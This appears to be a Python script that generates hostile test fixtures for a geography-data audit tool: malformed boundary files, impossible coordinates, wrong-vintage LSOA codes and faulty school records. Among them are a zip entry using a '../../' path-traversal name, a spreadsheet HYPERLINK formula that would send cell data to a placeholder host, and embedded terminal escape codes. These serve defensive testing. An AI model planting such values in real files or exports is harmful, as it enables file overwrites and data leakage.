"""Write the small geography files of this folder from the synthetic sample (repaudit/sample_data): broken
geometry files, impossible coordinates and LSOA codes of the wrong vintage. Run from the project root:
    python tests/hostile/geo/make_cases.py"""
from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from pathlib import Path

import geopandas as gpd
import shapely

HERE = Path(__file__).resolve().parent
SAMPLE = HERE.parents[2] / "repaudit" / "sample_data"
BNG = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::27700"}}


def sample_features(name: str, count: int) -> list[dict]:
    return json.loads((SAMPLE / name).read_text(encoding="utf-8"))["features"][:count]


def collection(features, crs=BNG) -> str:
    doc = {"type": "FeatureCollection", "features": features}
    if crs is not None:
        doc["crs"] = crs
    return json.dumps(doc)


def square(x, y, size=500.0) -> dict:
    return {"type": "Polygon", "coordinates": [[[x, y], [x + size, y], [x + size, y + size], [x, y + size], [x, y]]]}


def write(name: str, text: str, encoding="utf-8"):
    (HERE / name).write_text(text, encoding=encoding, newline="")


def lsoa_feature(code: str, geometry: dict, column="LSOA21CD") -> dict:
    return {"type": "Feature", "properties": {column: code}, "geometry": geometry}


def boundaries():
    lsoas = sample_features("synthetic_lsoa21_boundaries.geojson", 3)
    crs999 = {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::999999"}}
    write("b_epsg999999.geojson", collection(lsoas, crs999))
    write("b_not_json.geojson", '{"type": "FeatureCollection", "features": [ {"type": "Feature", oops')
    write("b_empty_collection.geojson", collection([]))
    x, y = 433000.0, 334000.0
    bowtie = {"type": "Polygon", "coordinates": [[[x, y], [x + 400, y + 400], [x + 400, y], [x, y + 400], [x, y]]]}
    write("b_bowtie.geojson", collection([lsoa_feature("E01000001", square(x + 1000, y)),
                                          lsoa_feature("E01000002", bowtie)]))
    write("b_points.geojson", collection([lsoa_feature("E01000001", {"type": "Point", "coordinates": [x, y]})]))
    ring = [[-1.30, 52.90], [-1.29, 52.90], [-1.29, 52.91], [-1.30, 52.91], [-1.30, 52.90]]
    write("b_degrees.geojson", collection([lsoa_feature("E01000001", {"type": "Polygon", "coordinates": [ring]})],
                                          crs=None))
    write("b lsoa ünïcode name.geojson", collection([lsoa_feature("E01000001", square(x, y))]))
    write("b_lsoa11_holding_2021_code.geojson", collection(
        [lsoa_feature("E01000001", square(x, y), "LSOA11CD"), lsoa_feature("E01034000", square(x + 600, y), "LSOA11CD")]))
    write("b_lsoa21_holding_retired_2011_code.geojson", collection(
        [lsoa_feature("E01000005", square(x, y)), lsoa_feature("E01000006", square(x + 600, y))]))
    write("b_polygon_in_sea.geojson", collection([lsoa_feature("E01000001", square(x, y)),
                                                  lsoa_feature("E01000002", square(700_000, 300_000))]))
    write("b_all_in_sea.geojson", collection([lsoa_feature("E01000001", square(700_000, 300_000))]))
    write("b_not_lsoa_codes.geojson", collection([lsoa_feature("E01000001", square(x, y)),
                                                  lsoa_feature("E0100001X", square(x + 600, y)),
                                                  lsoa_feature("S01006506", square(x + 1200, y))]))
    short = {"type": "Polygon", "coordinates": [[[x, y], [x + 500, y]]]}
    write("b_ring_of_two_points.geojson", collection([lsoa_feature("E01000001", square(x, y)),
                                                      lsoa_feature("E01000002", short)]))
    write("b_control_characters.geojson", collection([
        {"type": "Feature", "properties": {"LSOA21CD": "E01000001", "LSOA21NM": "Sample\x1b[31m 001A\x0b"},
         "geometry": square(x, y)}]))
    write("b_not_a_zip.zip", "LSOA21CD,x,y\nE01000001,433000,334000\n")
    with zipfile.ZipFile(HERE / "b_zip_path_traversal.zip", "w") as archive:
        archive.writestr("../../lsoa.geojson", collection([lsoa_feature("E01000001", square(x, y))]))
    frame = gpd.GeoDataFrame({"LSOA21CD": ["E01000001", "E01000002"]},
                             geometry=[shapely.box(x, y, x + 500, y + 500), shapely.box(x + 600, y, x + 1100, y + 500)],
                             crs=27700)
    frame.to_file(HERE / "b_made_up_prj.shp")
    (HERE / "b_made_up_prj.prj").write_text('PROJCS["Sampleshire Grid",GEOGCS["nowhere"],UNIT["furlong",201.168]]')
    (HERE / "b_made_up_prj.cpg").unlink(missing_ok=True)
    frame.to_file(HERE / "b_unknown_projection.shp")
    (HERE / "b_unknown_projection.prj").write_text(
        'PROJCS["x",GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],'
        'UNIT["degree",0.0174532925199433]],PROJECTION["Made_Up_Projection"],UNIT["metre",1]]')
    (HERE / "b_unknown_projection.cpg").unlink(missing_ok=True)
    frame.to_file(HERE / "b_no_dbf.shp")
    (HERE / "b_no_dbf.dbf").unlink()
    (HERE / "b_no_dbf.cpg").unlink(missing_ok=True)
    (HERE / "b_two_layers.gpkg").unlink(missing_ok=True)
    for layer in ("lsoa_2021", "lsoa_2021_copy"):
        frame.to_file(HERE / "b_two_layers.gpkg", layer=layer, SPATIAL_INDEX="NO")
    db = sqlite3.connect(HERE / "b_two_layers.gpkg", isolation_level=None)
    db.execute("PRAGMA page_size = 512")      # small pages keep the file a few KB
    db.execute("VACUUM")
    db.close()
    buffer = io.BytesIO()
    frame.to_file(HERE / "_zip_part.shp")
    with zipfile.ZipFile(buffer, "w") as archive:
        for part in sorted(HERE.glob("_zip_part.*")):
            if part.suffix != ".cpg":
                archive.write(part, f"LSOA_2021_EW/lsoa_2021{part.suffix}")
            part.unlink()
    (HERE / "b_zipped_shapefile_in_folder.zip").write_bytes(buffer.getvalue())


def centroids():
    header = "LSOA21CD,x,y\n"
    ok = "E01000001,433000.5,334000.5\nE01000002,434500,335500\n"
    write("c_swapped.csv", header + ok + "E01000003,180250,530100\n")
    write("c_lonlat_row.csv", header + ok + "E01000003,-1.2954,52.9101\n")
    write("c_in_sea.csv", header + ok + "E01000003,700000,300000\n")
    write("c_scotland.csv", header + ok + "E01000003,325000,673000\n")
    write("c_zero.csv", header + ok + "E01000003,0,0\n")
    write("c_all_in_sea.csv", header + "E01000001,700000,300000\nE01000002,710000,310000\n")
    write("c_lsoa11_holding_2021_code.csv", "LSOA11CD,x,y\n" + ok + "E01035000,433500,334500\n")


def lookup():
    header = "F_LSOA11CD,LSOA21CD,CHGIND,LAD22CD,LAD22NM\n"
    lad = "E06099990,Sampleshire (synthetic)"
    write("l_split_2011_codes.csv", header + f"E01000005,E01033769,S,{lad}\nE01000005,E01033770,S,{lad}\n"
                                             f"E01000006,E01033771,S,{lad}\nE01000006,E01033772,S,{lad}\n")
    write("l_two_unchanged.csv", header + f"E01000001,E01000001,U,{lad}\nE01000001,E01000002,U,{lad}\n"
                                          f"E01000003,E01000003,U,{lad}\n")
    write("l_unchanged_and_split.csv", header + f"E01000003,E01000003,U,{lad}\nE01000003,E01033771,S,{lad}\n")
    write("l_2011_column_holding_2021_code.csv", header + f"E01000001,E01000001,U,{lad}\nE01034500,E01034500,U,{lad}\n")
    write("l_not_lsoa_codes.csv", header + f"E01000001,E01000001,U,{lad}\nE02000001,E02000001,U,{lad}\n")


def catchments():
    zones = sample_features("synthetic_secondary_catchments.geojson", 2)
    zones[1]["properties"]["URN"] = 999999
    write("k_unknown_school.geojson", collection(zones))
    names = sample_features("synthetic_secondary_catchments.geojson", 2)
    for zone in names:
        del zone["properties"]["URN"]
    write("k_no_urn.geojson", collection(names))
    write("k_urn_map.csv", "catchment,urn\nAbbeyfield Academy (synthetic),990003\nNowhere Zone,990001\n")
    x, y = 433000.0, 334000.0
    write("k_points.geojson", collection([{"type": "Feature", "properties": {"catchment": "A", "URN": 990003},
                                           "geometry": {"type": "Point", "coordinates": [x, y]}}]))
    odd = sample_features("synthetic_secondary_catchments.geojson", 3)
    odd[0]["properties"]["URN"] = '=HYPERLINK("http://example.com/?"&A1,"x")'
    odd[1]["properties"]["catchment"] = "Zone " * 400
    write("k_formula_urn_and_long_name.geojson", collection(odd))
    sea = sample_features("synthetic_secondary_catchments.geojson", 2)
    sea[1]["geometry"] = square(720_000, 250_000, 2000)
    write("k_in_sea.geojson", collection(sea))


def gias():
    with open(SAMPLE / "synthetic_edubasealldata20240901.csv", encoding="cp1252", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:4]
    east, north, name = header.index("Easting"), header.index("Northing"), header.index("EstablishmentName")

    def save(filename, changes, drop=None):
        out = io.StringIO()
        writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
        keep = [i for i in range(len(header)) if i != drop]
        writer.writerow([header[i] for i in keep])
        for n, row in enumerate(body):
            row = list(row)
            if n in changes:
                row[east], row[north] = changes[n]
            writer.writerow([row[i] for i in keep])
        write(filename, out.getvalue(), encoding="cp1252")

    save("g_no_establishment_name.csv", {}, drop=name)
    save("g_swapped.csv", {1: ("180250", "530100")})      # a London school's easting and northing exchanged
    save("g_lonlat.csv", {1: ("-1.2954", "52.9101")})
    save("g_far_outside.csv", {1: ("9999999", "9999999")})
    save("g_scotland.csv", {1: ("325000", "673000")})
    save("g_zero.csv", {1: ("0", "0")})
    save("g_in_sea.csv", {1: ("700000", "300000")})


if __name__ == "__main__":
    boundaries()
    centroids()
    lookup()
    catchments()
    gias()
